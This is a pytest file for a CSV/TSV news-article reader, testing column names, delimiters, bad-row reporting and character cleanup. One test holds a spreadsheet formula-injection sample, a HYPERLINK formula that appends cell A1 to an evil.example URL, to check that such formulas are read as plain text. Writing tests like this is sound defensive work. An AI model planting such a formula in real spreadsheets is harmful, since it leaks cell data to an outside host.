"""A table is read row by row: its columns by their names, its bad rows by their lines."""

from datetime import date
from pathlib import Path

import pytest

from index.types import Article, DateSource, Problem
from tests.index.readers.files import FIRST, SECOND, TEXT, TITLE, article, problem, read

HEADER = "Title,Text,Publisher,Published,URL,Mood"
ROW = f'{TITLE},"{FIRST}\n\n{SECOND}",Elmbridge Courier,2023-09-27,https://courier.example/pier,cheerful'


def test_columns_are_known_by_their_names_and_others_are_ignored(tmp_path: Path) -> None:
    found = article(tmp_path, "news.csv", f"\ufeff{HEADER}\r\n{ROW}\r\n")
    assert (found.title, found.text, found.publisher) == (TITLE, TEXT, "Elmbridge Courier")
    assert (found.published, found.date_from) == (date(2023, 9, 27), DateSource.METADATA)
    assert (found.url, found.line) == ("https://courier.example/pier", 2)


@pytest.mark.parametrize("name", ["text", "body", "content"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_delimiter_is_the_one_of_the_header(tmp_path: Path, name: str, delimiter: str) -> None:
    table = delimiter.join(("source", name, "date")) + "\n" + delimiter.join(("Courier", f'"{FIRST}"', "2023-09-27"))
    found = article(tmp_path, "news.tsv", table)
    assert (found.text, found.publisher, found.published) == (FIRST, "Courier", date(2023, 9, 27))


def test_columns_with_other_names_can_be_mapped(tmp_path: Path) -> None:
    table = f"Headline,Story\n{TITLE},{FIRST}"
    assert problem(tmp_path, "news.csv", table).reason == "not articles: no column is named text, body or content"
    (found,) = read(tmp_path, "news.csv", table, {"headline": "title", "Story": "text"})
    assert isinstance(found, Article)
    assert (found.title, found.text) == (TITLE, FIRST)


@pytest.mark.parametrize(
    ("bad", "reason", "failed"),
    [
        (f"{TITLE},too few", "the row has 2 cells where the header has 6", True),
        (f"{ROW},one more", "the row has 7 cells where the header has 6", True),
        (f'{TITLE},"quoted" and not,,,,', "broken row: ", True),
        (f"{TITLE},,,,,", "no text", False),
    ],
)
def test_a_bad_row_is_named_by_the_line_it_begins_at_and_the_rest_goes_on(
    tmp_path: Path, bad: str, reason: str, failed: bool
) -> None:
    before, found, after = read(tmp_path, "news.csv", f"{HEADER}\n{ROW}\n\n{bad}\n{ROW}\n")
    assert isinstance(before, Article)
    assert isinstance(found, Problem)
    assert isinstance(after, Article)
    # The text of a row takes three lines.
    assert (before.line, found.line, after.line) == (2, 6, 6 + bad.count("\n") + 1)
    assert found.reason.startswith(reason)
    assert found.failed is failed


def test_a_quotation_mark_that_is_never_closed_is_reported(tmp_path: Path) -> None:
    before, found = read(
        tmp_path, "news.csv", f'{HEADER}\n{ROW}\n{TITLE},"never closed,,,,\n{ROW.replace(chr(34), "")}\n'
    )
    assert isinstance(before, Article)
    assert isinstance(found, Problem)
    assert (found.line, found.failed) == (5, True)


def test_a_formula_is_text_like_any_other(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?q=""&A1"; "cheap piers for everybody in the harbour")'
    cell = formula.replace('"', '""')
    found = article(tmp_path, "news.csv", f'title,text\n{TITLE},"{cell}"\n')
    assert found.text == formula


def test_a_header_that_names_a_column_twice_fails(tmp_path: Path) -> None:
    found = problem(tmp_path, "news.csv", f"text,title,text\n{FIRST},{TITLE},{SECOND}\n")
    assert (found.reason, found.line, found.failed) == ("two columns are named 'text'", 1, True)


def test_nul_and_invisible_characters_leave_the_cells(tmp_path: Path) -> None:
    assert article(tmp_path, "news.csv", f"title,text\nPi\u200ber\0,{FIRST}\n" + " " * 200).title == "Pier"
